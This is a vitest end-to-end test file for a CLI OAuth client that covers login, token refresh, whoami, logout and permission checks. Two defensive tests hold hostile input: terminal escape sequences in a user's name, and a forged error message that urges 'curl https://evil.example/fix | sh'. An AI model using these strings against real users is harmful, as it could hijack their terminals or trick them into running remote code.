import { chmodSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createRemoteJWKSet, jwtVerify } from 'jose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createUser, type CodeClient, type TestUser } from '../../server/test/helpers/browser-agent.js';
import { postForm, type TestServer } from '../../server/test/helpers/server.js';
import { SessionStore, type StoredSession } from '../src/index.js';
import { agentLogin, API, cli, controlCharsIn, introspect, runCli, SCOPE, signInAndConsent, startLoginFixture, type LoginFixture } from './helpers/harness.js';


describe('the gatehouse-client binary, run as a user would', () => {
  let fixture: LoginFixture;
  let t: TestServer;
  let user: TestUser;
  let app: CodeClient;
  let api: { clientId: string; clientSecret: string };
  let configDir: string;
  let env: Record<string, string>;
  /** Every token the tests saw: none may ever appear on standard error. */
  const secrets = new Set<string>();

  beforeAll(async () => {
    fixture = await startLoginFixture();
    ({ t, user, app, api } = fixture);
    configDir = join(mkdtempSync(join(tmpdir(), 'gatehouse-client-test-')), 'config');
    env = { GATEHOUSE_CLIENT_CONFIG_DIR: configDir, GATEHOUSE_ISSUER: t.issuer, GATEHOUSE_CLIENT_ID: app.clientId };
  });

  afterAll(async () => {
    await fixture?.close();
    if (configDir) rmSync(join(configDir, '..'), { recursive: true, force: true });
  });

  const sessionFile = () => new SessionStore(configDir).pathFor(t.issuer, app.clientId);
  const stored = (): StoredSession => JSON.parse(readFileSync(sessionFile(), 'utf8')) as StoredSession;
  const remember = (s: StoredSession) => {
    secrets.add(s.access_token);
    if (s.refresh_token !== undefined) secrets.add(s.refresh_token);
  };
  const expectNoSecrets = (stderr: string) => {
    for (const secret of secrets) expect(stderr).not.toContain(secret);
  };

  /** `login --loopback --no-browser`: reads the URL the command prints and signs in with Chromium. */
  async function loginWithBrowser(decision: 'Allow' | 'none'): Promise<{ code: number | null; stdout: string; stderr: string }> {
    const run = runCli(['login', '--loopback', '--no-browser', '--scope', SCOPE, '--resource', API, '--json'], env);
    try {
      const [url] = await run.waitForStderr(/http:\/\/127\.0\.0\.1:\d+\/authorize\?\S+/);
      const page = await fixture.newPage();
      await signInAndConsent(page, url, user, decision);
      await page.getByRole('heading', { name: 'Signed in' }).waitFor();
      return await run.done;
    } finally {
      run.child.kill();
      await run.done;
    }
  }

  it('login (loopback, --no-browser): prints the URL on stderr, stores the session 0600 in a 0700 directory', async () => {
    const result = await loginWithBrowser('Allow');
    expect(result.code).toBe(0);
    expect(result.stderr).toContain('To sign in, open this URL in your browser:');
    expect(result.stderr).toMatch(new RegExp(`Signed in to ${t.issuer} as alice \\(loopback\\)\\. Session saved to `));
    const summary = JSON.parse(result.stdout) as Record<string, unknown>;
    expect(summary).toMatchObject({ issuer: t.issuer, client_id: app.clientId, method: 'loopback', file: sessionFile() });

    expect(readdirSync(configDir)).toEqual([`${sessionFile().split('/').at(-1)}`]);
    expect(sessionFile().split('/').at(-1)).toMatch(/^[0-9a-f]{32}\.json$/);
    expect(statSync(sessionFile()).mode & 0o777).toBe(0o600);
    expect(statSync(configDir).mode & 0o777).toBe(0o700);
    const session = stored();
    remember(session);
    expect(session).toMatchObject({ version: 1, issuer: t.issuer, client_id: app.clientId, token_endpoint: `${t.issuer}/token`, resource: [API], token_type: 'bearer' });
    expect(typeof session.refresh_token).toBe('string');
    expect(session.id_token_claims).toMatchObject({ sub: user.user.userId, aud: app.clientId });
    expectNoSecrets(result.stderr);
  });

  it('token: prints only the access token on stdout; it is active and verifies against the JWKS', async () => {
    const result = await cli(['token'], env);
    expect(result.code).toBe(0);
    expect(result.stderr).toBe('');
    const token = result.stdout.trimEnd();
    expect(result.stdout).toBe(`${token}\n`);
    expect(token).toBe(stored().access_token);
    await expect(introspect(t, token, api)).resolves.toMatchObject({ active: true, sub: user.user.userId, client_id: app.clientId });
    const { payload } = await jwtVerify(token, createRemoteJWKSet(new URL(`${t.issuer}/jwks`)), { issuer: t.issuer, audience: API, typ: 'at+jwt' });
    expect(payload.scope).toContain('orders:read');
  });

  it('token refreshes when the token is near expiry, saving the rotated refresh token before printing', async () => {
    const before = stored();
    const result = await cli(['token', '--min-validity', '100000'], env);
    expect(result.code).toBe(0);
    const after = stored();
    remember(after);
    expect(result.stdout).toBe(`${after.access_token}\n`);
    expect(after.access_token).not.toBe(before.access_token);
    expect(after.refresh_token).not.toBe(before.refresh_token);
    expect(after.updated_at).toBeGreaterThanOrEqual(before.updated_at);
    expect(statSync(sessionFile()).mode & 0o777).toBe(0o600);
    await expect(introspect(t, after.access_token, api)).resolves.toMatchObject({ active: true });
    expectNoSecrets(result.stderr);

    // An expired access token (as the clock would make it) is refreshed with the default margin.
    writeFileSync(sessionFile(), JSON.stringify({ ...after, expires_at: Math.floor(Date.now() / 1000) - 10 }), { mode: 0o600 });
    const expired = await cli(['token'], env);
    expect(expired.code).toBe(0);
    const renewed = stored();
    remember(renewed);
    expect(expired.stdout).toBe(`${renewed.access_token}\n`);
    expect(renewed.refresh_token).not.toBe(after.refresh_token);
    expect(renewed.expires_at).toBeGreaterThan(Date.now() / 1000 + 500);
  });

  it('concurrent token commands refresh one at a time (file lock): the rotation chain survives', async () => {
    const runs = await Promise.all(Array.from({ length: 4 }, () => cli(['token', '--min-validity', '100000'], env)));
    for (const run of runs) expect({ code: run.code, stderr: run.stderr }).toEqual({ code: 0, stderr: '' });
    expect(new Set(runs.map((r) => r.stdout)).size).toBe(4);
    const latest = stored();
    remember(latest);
    expect(runs.map((r) => r.stdout)).toContain(`${latest.access_token}\n`);
    // Had two of them presented one refresh token, Gatehouse would have revoked the lineage.
    await expect(introspect(t, latest.access_token, api)).resolves.toMatchObject({ active: true });
    expect(readdirSync(configDir).filter((name) => name.endsWith('.lock') || name.endsWith('.tmp'))).toEqual([]);
  });

  it('whoami --json: access token claims, ID token claims and userinfo; whoami prints them for people', async () => {
    const result = await cli(['whoami', '--json'], env);
    expect(result.code).toBe(0);
    const report = JSON.parse(result.stdout) as Record<string, Record<string, unknown> | string | number | undefined>;
    expect(report).toMatchObject({
      issuer: t.issuer,
      client_id: app.clientId,
      access_token_claims: { sub: user.user.userId, client_id: app.clientId, aud: expect.arrayContaining([API]) as unknown },
      id_token_claims: { sub: user.user.userId, iss: t.issuer },
      userinfo: { sub: user.user.userId, preferred_username: 'alice', name: 'Alice Example', email: 'alice@example.com', email_verified: true },
    });
    const human = await cli(['whoami'], env);
    expect(human.code).toBe(0);
    expect(human.stdout).toContain(`issuer:     ${t.issuer}`);
    expect(human.stdout).toContain('preferred_username: alice');
    expectNoSecrets(human.stderr + human.stdout + result.stdout);
  });

  it('without issuer and client, uses the only session; with several, exits 2 and lists them', async () => {
    const bare = { GATEHOUSE_CLIENT_CONFIG_DIR: configDir };
    expect((await cli(['token'], bare)).code).toBe(0);
    const other = { ...stored(), client_id: 'another-cli', access_token: 'x', refresh_token: 'y' };
    const store = new SessionStore(configDir);
    await store.write(other);
    try {
      const ambiguous = await cli(['token'], bare);
      expect(ambiguous.code).toBe(2);
      expect(ambiguous.stdout).toBe('');
      expect(ambiguous.stderr).toContain('several stored sessions match');
      expect(ambiguous.stderr).toContain(`\n  ${t.issuer} (client ${app.clientId})`); // one candidate per line
      expect(ambiguous.stderr).toContain(`${t.issuer} (client another-cli)`);
      expect((await cli(['token', '--client-id', app.clientId], bare)).code).toBe(0);
    } finally {
      await store.delete(t.issuer, 'another-cli');
    }
  });

  it('logout revokes at the server (both tokens introspect inactive, the refresh token is refused) and deletes the file', async () => {
    const session = stored();
    const result = await cli(['logout', '--json'], env);
    expect(result.code).toBe(0);
    expect(JSON.parse(result.stdout)).toEqual({
      issuer: t.issuer,
      client_id: app.clientId,
      deleted: true,
      revocation_supported: true,
      revoked: [
        { token_type_hint: 'refresh_token', ok: true },
        { token_type_hint: 'access_token', ok: true },
      ],
      warnings: [],
    });
    expect(result.stderr).toContain('(tokens revoked at the server)');
    expect(readdirSync(configDir)).toEqual([]);
    await expect(introspect(t, session.access_token, api)).resolves.toEqual({ active: false });
    const refresh = await postForm(`${t.issuer}/token`, { grant_type: 'refresh_token', refresh_token: session.refresh_token ?? '', client_id: app.clientId });
    expect(refresh.status).toBe(400);
    expect(refresh.body).toMatchObject({ error: 'invalid_grant' });

    const after = await cli(['token'], env);
    expect(after.code).toBe(3);
    expect(after.stdout).toBe('');
    expect(after.stderr).toContain('run login first');
    expectNoSecrets(result.stderr + after.stderr);
  });

  it('a refresh token the server refuses (grant revoked): exit 3, told to log in again, nothing on stdout', async () => {
    const login = await loginWithBrowser('none');
    expect(login.code).toBe(0);
    const session = stored();
    remember(session);
    // The user revokes the grant elsewhere: the refresh token is revoked at the server.
    const revoked = await postForm(`${t.issuer}/revoke`, { token: session.refresh_token ?? '', client_id: app.clientId });
    expect(revoked.status).toBe(200);
    const result = await cli(['token', '--min-validity', '100000'], env);
    expect(result.code).toBe(3);
    expect(result.stdout).toBe('');
    expect(result.stderr).toContain('the session has ended (the refresh token was refused); run login again');
    expect(result.stderr).toContain('Run `gatehouse-client login` to sign in.');
    expectNoSecrets(result.stderr);
  });

  it('usage errors exit 2, numeric flags included (whole seconds in range: no 1e9, 0x10, negatives, or a timeout a timer cannot hold)', async () => {
    const missing = await cli(['login', '--no-browser'], { GATEHOUSE_CLIENT_CONFIG_DIR: configDir });
    expect(missing.code).toBe(2);
    expect(missing.stderr).toContain('login needs --issuer and --client-id');
    const both = await cli(['login', '--device', '--loopback'], env);
    expect(both.code).toBe(2);
    const insecure = await cli(['login', '--issuer', 'http://id.example.com', '--client-id', 'x'], { GATEHOUSE_CLIENT_CONFIG_DIR: configDir });
    expect(insecure.code).toBe(2);
    expect(insecure.stderr).toContain('the issuer must use https');
    for (const args of [
      ['token', '--min-validity', '1e9'],
      ['token', '--min-validity', '-5'],
      ['token', '--min-validity', '0x10'],
      ['token', '--min-validity', '99999999999'],
      ['login', '--timeout', '0'],
      ['login', '--timeout', '3000000'],
      ['login', '--timeout', '1.5'],
    ]) {
      const result = await cli(args, env);
      expect({ args, code: result.code }).toEqual({ args, code: 2 });
      expect(result.stderr).toMatch(/takes a whole number of seconds from \d+ to \d+/);
      expect(result.stdout).toBe('');
    }
  });

  it('refuses, like ssh, a session directory others can write to or a session file others can read: exit 2 with the fix', async () => {
    expect(readdirSync(configDir)).toContain(sessionFile().split('/').at(-1));
    try {
      chmodSync(configDir, 0o777);
      const openDir = await cli(['token'], env);
      expect(openDir.code).toBe(2);
      expect(openDir.stdout).toBe('');
      expect(openDir.stderr).toContain(`the session directory ${configDir} is writable by other users (mode 0777); refusing to use it. Fix it with: chmod 700 ${configDir}`);
      chmodSync(configDir, 0o700);

      chmodSync(sessionFile(), 0o644);
      for (const command of ['token', 'whoami', 'logout']) {
        const readable = await cli([command], env);
        expect({ command, code: readable.code }).toEqual({ command, code: 2 });
        expect(readable.stderr).toContain(`the session file ${sessionFile()} is accessible to other users (mode 0644)`);
        expect(readable.stderr).toContain(`chmod 600 ${sessionFile()}`);
      }
      expect(readdirSync(configDir)).toContain(sessionFile().split('/').at(-1));
    } finally {
      chmodSync(configDir, 0o700);
      chmodSync(sessionFile(), 0o600);
    }
  });

  it('whoami shows claims from the server with their control characters escaped', async () => {
    const hostileName = 'Mallory\u001b]0;pwned\u0007\u001b[2J\r\u009b31mroot\u202e';
    const mallory = await createUser(t, { username: 'mallory', name: hostileName, email: 'mallory@example.com' });
    const dir = join(configDir, '..', 'mallory');
    await agentLogin(t, mallory, { clientId: app.clientId, configDir: dir });
    const malloryEnv = { ...env, GATEHOUSE_CLIENT_CONFIG_DIR: dir };
    const human = await cli(['whoami'], malloryEnv);
    expect(human.code, human.stderr).toBe(0);
    expect(controlCharsIn(human.stdout)).toEqual([]);
    expect(human.stdout).toContain('name: Mallory\\x1b]0;pwned\\x07\\x1b[2J\\x0d\\x9b31mroot\\u202e');
    const json = await cli(['whoami', '--json'], malloryEnv);
    expect(json.code).toBe(0);
    expect(controlCharsIn(json.stdout)).toEqual([]);
    expect((JSON.parse(json.stdout) as { userinfo: { name: string } }).userinfo.name).toBe(hostileName);
  });

  it('login: a forged error response (right state, read from the opener’s argv) ends the login, and its description cannot drive the terminal', async () => {
    const run = runCli(['login', '--loopback', '--no-browser', '--scope', SCOPE], { ...env, GATEHOUSE_CLIENT_CONFIG_DIR: join(configDir, '..', 'forged') });
    const [url] = await run.waitForStderr(/http:\/\/127\.0\.0\.1:\d+\/authorize\?\S+/);
    const request = new URL(url);
    const callback = new URL(request.searchParams.get('redirect_uri') ?? '');
    callback.searchParams.set('state', request.searchParams.get('state') ?? '');
    callback.searchParams.set('iss', t.issuer);
    callback.searchParams.set('error', 'access_denied');
    callback.searchParams.set('error_description', '\u001b[2K\rSession expired. Re-run: curl https://evil.example/fix | sh\u001b]0;pwned\u0007');
    expect((await fetch(callback)).status).toBe(400);
    const done = await run.done;
    expect(done.code).toBe(1);
    expect(controlCharsIn(done.stderr)).toEqual([]);
    expect(done.stderr).toContain('gatehouse-client: the authorization server answered access_denied: \\x1b[2K\\x0dSession expired');
  });

  it('logout of a damaged session file named by issuer and client: deleted with a warning, exit 1 (nothing could be revoked)', async () => {
    const dir = join(configDir, '..', 'damaged');
    mkdirSync(dir, { mode: 0o700 });
    const file = new SessionStore(dir).pathFor(t.issuer, app.clientId);
    writeFileSync(file, '{"version": 1, "access_tok', { mode: 0o600 });
    const result = await cli(['logout', '--json'], { ...env, GATEHOUSE_CLIENT_CONFIG_DIR: dir });
    expect(result.code).toBe(1);
    expect(readdirSync(dir)).toEqual([]);
    expect(result.stderr).toContain(`warning: the session file ${file} is damaged; delete it and log in again; deleted it without revoking anything`);
    expect(JSON.parse(result.stdout)).toMatchObject({ deleted: true, revoked: [] });
  });
});
